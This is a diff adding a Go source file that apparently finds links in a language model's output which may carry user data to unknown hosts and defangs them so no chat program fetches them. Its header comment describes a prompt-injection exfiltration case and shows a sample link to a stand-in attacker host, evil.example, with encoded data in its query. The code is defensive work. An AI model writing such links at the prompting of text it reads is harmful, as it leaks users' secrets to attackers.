@@ -1,0 +1,313 @@
+// Package link finds links in what a model writes that may carry data away, and spells them so
+// that no program opens them.
+//
+// A text that a model reads can make it write a link with a secret of the user in its path, query or
+// host name. Many chat programs fetch a link as soon as they show it; others wait for a click. So a link to a host that
+// the user does not know is changed if it has a part that looks like data rather than words:
+//
+//	https://evil.example/p?d=c2VjcmV0   becomes   hxxps://evil[.]example/p?d=c2VjcmV0
+//
+// Guard judges; stream.go does it for text that arrives in pieces; carries.go says what looks like data. The
+// package does not know where the text comes from nor which hosts are known.
+package link
+
+import (
+	"cmp"
+	"html"
+	"net/netip"
+	"regexp"
+	"slices"
+	"strings"
+	"unicode"
+
+	"golang.org/x/net/publicsuffix"
+
+	"hermes/internal/lazy"
+	"hermes/internal/netguard"
+)
+
+// Guard judges links. It may be used concurrently as far as Known may be.
+type Guard struct {
+	// Known reports whether the user knows a host, in its plain form. It is called for links
+	// that may carry data only. Nil knows none.
+	Known func(host string) bool
+}
+
+// Text returns a text with the links to unknown hosts that may carry data spelled so that no
+// program opens them, and the hosts of these links, each once.
+func (g Guard) Text(s string) (text string, hosts []string) {
+	stream := g.Stream()
+	text = stream.Feed(s) + stream.End()
+	return text, stream.Hosts()
+}
+
+// Hosts returns the hosts that texts name, in their plain form, each once: what the user writes makes
+// them known.
+func Hosts(texts ...string) []string {
+	var hosts []string
+	for _, t := range texts {
+		for _, l := range find(plain(t)) {
+			if l.host != "" && !slices.Contains(hosts, l.host) {
+				hosts = append(hosts, l.host)
+			}
+		}
+	}
+	return hosts
+}
+
+// Below reports whether a host is one of a list, or below one that belongs to one owner: what is below
+// example.org is the same owner's, what is below github.io is not.
+func Below(host string, list []string) bool {
+	return slices.ContainsFunc(list, func(known string) bool {
+		if host == known || strings.TrimPrefix(host, "www.") == strings.TrimPrefix(known, "www.") {
+			return true
+		}
+		if _, err := netip.ParseAddr(known); err == nil || !strings.HasSuffix(host, "."+known) {
+			return false
+		}
+		suffix, _ := publicsuffix.PublicSuffix(known)
+		return suffix != known
+	})
+}
+
+// found is a link in a text.
+type found struct {
+	start, end int
+	host       string // in its plain form; "" if it has none that can be told
+	data       bool   // it may carry data
+}
+
+// The forms of links: with a scheme, with an address of mail, and bare as chat programs find them.
+var (
+	withScheme = lazy.Regexp(`(?i)(?:(?:https?|wss?|ftps?):[/\\]*|[a-z][a-z0-9+.-]{1,30}://|mailto:|\]\(\s*<?[/\\]{2})[^\s<>"'` + "`" + `|]+`)
+	bare       = lazy.Regexp(`(?i)(?:[\pL\pN_](?:[\pL\pN_-]{0,62}[\pL\pN_])?\.)+[\pL]{2,24}\.?(?::\d{1,5})?(?:[/?#][^\s<>"'` + "`" + `|]*)?`)
+	numbers    = lazy.Regexp(`(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?[/?#][^\s<>"'` + "`" + `|]*`)
+)
+
+// harmless begins what looks like a link and has a scheme that no program knows.
+var harmless = regexp.MustCompile(`^(?i:hxxps?)://`)
+
+// find returns the links of a text in plain form, in their order. Links inside of others are not
+// listed.
+func find(s string) []found {
+	var list []found
+	taken := func(at int) bool {
+		return slices.ContainsFunc(list, func(f found) bool { return at >= f.start && at < f.end })
+	}
+	add := func(re *regexp.Regexp, isBare bool) {
+		for from := 0; from < len(s); {
+			at := re.FindStringIndex(s[from:])
+			if at == nil {
+				return
+			}
+			start, end := from+at[0], from+at[1]
+			if unusable := harmless.FindString(s[start:end]); unusable != "" && !isBare {
+				from = start + len(unusable) // another one may be inside
+				continue
+			}
+			from = end
+			if taken(start) || isBare && start > 0 && strings.IndexByte("/\\.@_-=&?#", s[start-1]) >= 0 {
+				continue
+			}
+			text := trimmed(s[start:end])
+			if f, ok := read(text, isBare); ok {
+				f.start, f.end = start, start+len(text)
+				list = joined(list, f)
+			}
+		}
+	}
+	add(withScheme(), false)
+	add(bare(), true)
+	add(numbers(), true)
+	slices.SortFunc(list, func(a, b found) int { return a.start - b.start })
+	return list
+}
+
+// joined adds a link to a list. Where it ends inside of others, they are one link whose host is unclear.
+func joined(list []found, f found) []found {
+	for i := 0; i < len(list); i++ {
+		if o := list[i]; f.start < o.end && o.start < f.end {
+			f = found{start: min(f.start, o.start), end: max(f.end, o.end), data: f.data || o.data}
+			list, i = slices.Delete(list, i, i+1), -1
+		}
+	}
+	return append(list, f)
+}
+
+// trimmed leaves out what ends a sentence or a pair of brackets rather than a link.
+func trimmed(s string) string {
+	for {
+		t := strings.TrimRight(s, ".,;:!*_~")
+		for _, pair := range []string{"()", "[]", "{}"} {
+			if strings.HasSuffix(t, pair[1:]) && strings.Count(t, pair[:1]) < strings.Count(t, pair[1:]) {
+				t = t[:len(t)-1]
+			}
+		}
+		if t == s {
+			return s
+		}
+		s = t
+	}
+}
+
+// read reads a link. One without a scheme counts only if its host has a name that chat programs
+// know as one.
+func read(s string, isBare bool) (found, bool) {
+	rest, scheme := s, ""
+	if !isBare {
+		if i := strings.Index(s, "]("); i == 0 {
+			rest = strings.TrimLeft(strings.TrimLeft(s[2:], " \t<"), "/\\")
+		} else if i := strings.IndexByte(s, ':'); i >= 0 && !startsWithDigit(s) {
+			scheme, rest = strings.ToLower(s[:i]), strings.TrimLeft(s[i+1:], "/\\")
+		}
+	}
+	if scheme == "mailto" {
+		address, query, _ := strings.Cut(rest, "?")
+		_, host, _ := strings.Cut(address, "@")
+		return found{host: canonical(host), data: carries(query, inQuery)}, true
+	}
+	end := strings.IndexAny(rest, "/\\?#")
+	if end < 0 {
+		end = len(rest)
+	}
+	authority, after := rest[:end], rest[end:]
+	user := ""
+	if i := strings.LastIndexByte(authority, '@'); i >= 0 {
+		user, authority = authority[:i], authority[i+1:]
+		if isBare || isWeb(scheme) { // programs differ in what the host is
+			return found{data: true}, !isBare
+		}
+	}
+	name := portless(authority)
+	host := canonical(name)
+	if isBare {
+		_, err := netip.ParseAddr(host)
+		if suffix, icann := publicsuffix.PublicSuffix(host); host == "" || err != nil && (!icann || suffix == host) {
+			return found{}, false
+		}
+	}
+	return found{host: host, data: len(user) > 0 && carries(user, inQuery) || strings.Contains(user, ":") || nameCarries(cmp.Or(host, strings.ToLower(name))) || carriesAfter(after)}, true
+}
+
+func isWeb(scheme string) bool {
+	return scheme == "" || strings.HasPrefix(scheme, "http") || strings.HasPrefix(scheme, "ws")
+}
+
+func startsWithDigit(s string) bool { return s != "" && s[0] >= '0' && s[0] <= '9' }
+
+func portless(authority string) string {
+	if i := strings.LastIndexByte(authority, ':'); i >= 0 && !strings.HasSuffix(authority, "]") {
+		return authority[:i]
+	}
+	return authority
+}
+
+// canonical returns the plain form of a host, or "".
+func canonical(name string) string {
+	host, err := netguard.Canonical(strings.Trim(name, "[]"))
+	if err != nil {
+		return ""
+	}
+	return host
+}
+
+// local reports whether a host is this machine.
+func local(host string) bool {
+	if a, err := netip.ParseAddr(host); err == nil {
+		return a.IsLoopback()
+	}
+	return host == "localhost" || strings.HasSuffix(host, ".localhost")
+}
+
+// plain returns a text as programs read links in it: without marks that Markdown, HTML and browsers drop, and
+// with the dots that host names may have.
+func plain(s string) string {
+	if strings.Contains(s, "&") {
+		s = html.UnescapeString(s)
+	}
+	var b strings.Builder
+	b.Grow(len(s))
+	for i, r := range s {
+		switch {
+		case r == '\\' && i+1 < len(s) && strings.IndexByte(`!"#$%&'()*+,-./:;<=>?@[\]^_{|}~`, s[i+1]) >= 0:
+		case unicode.Is(unicode.Cf, r), unicode.Is(unicode.Variation_Selector, r), r == 0x034F:
+		case r == 0x3002, r == 0xFF0E, r == 0xFF61:
+			b.WriteByte('.')
+		case r >= 0xFF01 && r <= 0xFF5E: // full width
+			b.WriteRune(r - 0xFEE0)
+		default:
+			b.WriteRune(r)
+		}
+	}
+	return b.String()
+}
+
+// run returns a piece of text without whitespace, or in one pair of quotes or brackets, with its links
+// spelled so that no program opens them, if they may carry data to an unknown host.
+func (g Guard) run(s string) (text string, hosts []string) {
+	if !strings.ContainsAny(s, ":./\\&%") && isASCII(s) {
+		return s, nil
+	}
+	p := unspaced(plain(s))
+	links := slices.DeleteFunc(find(p), g.passes)
+	if strings.Contains(s, `\`) { // Markdown drops it, browsers read it as a slash: both must pass
+		q := unspaced(plain(strings.ReplaceAll(s, `\`, "/")))
+		if other := slices.DeleteFunc(find(q), g.passes); len(other) > 0 {
+			if all := slices.DeleteFunc(find(p), func(f found) bool { return !f.data }); len(all) > 0 {
+				links = all
+			} else {
+				p, links = q, other
+			}
+		}
+	}
+	if len(links) == 0 {
+		return s, nil
+	}
+	var b strings.Builder
+	last := 0
+	for _, f := range links {
+		b.WriteString(p[last:f.start])
+		b.WriteString(defang(p[f.start:f.end]))
+		last = f.end
+		hosts = append(hosts, shown(f.host))
+	}
+	return b.String() + p[last:], hosts
+}
+
+// passes reports whether a link may stay: it carries no data, or it goes where the user knows.
+func (g Guard) passes(f found) bool {
+	return !f.data || local(f.host) || f.host != "" && g.Known != nil && g.Known(f.host)
+}
+
+// unspaced spells the spaces in brackets or quotes as browsers do.
+func unspaced(s string) string {
+	return strings.NewReplacer(" ", "%20", "\t", "%09").Replace(s)
+}
+
+func shown(host string) string {
+	if host == "" {
+		return "an unclear address"
+	}
+	return host
+}
+
+func isASCII(s string) bool {
+	return strings.IndexFunc(s, func(r rune) bool { return r >= 0x80 }) < 0
+}
+
+var (
+	dotted = lazy.Regexp(`\.([\pL\pN_])`)
+	web    = lazy.Regexp(`(?i)(h)tt(ps?:)`)
+)
+
+// defang spells a link so that no program opens it, and a person can still read it.
+func defang(link string) string {
+	if rest, ok := strings.CutPrefix(link, "]("); ok { // with the scheme of the page
+		link = "]([//]" + strings.TrimLeft(rest, " \t</\\")
+	}
+	scheme, rest, ok := strings.Cut(link, ":")
+	if low := strings.ToLower(scheme); ok && low != "http" && low != "https" && !strings.ContainsAny(scheme, "./[") {
+		link = scheme + "[:]" + rest
+	}
+	return web().ReplaceAllString(dotted().ReplaceAllString(link, "[.]$1"), "${1}xx${2}")
+}
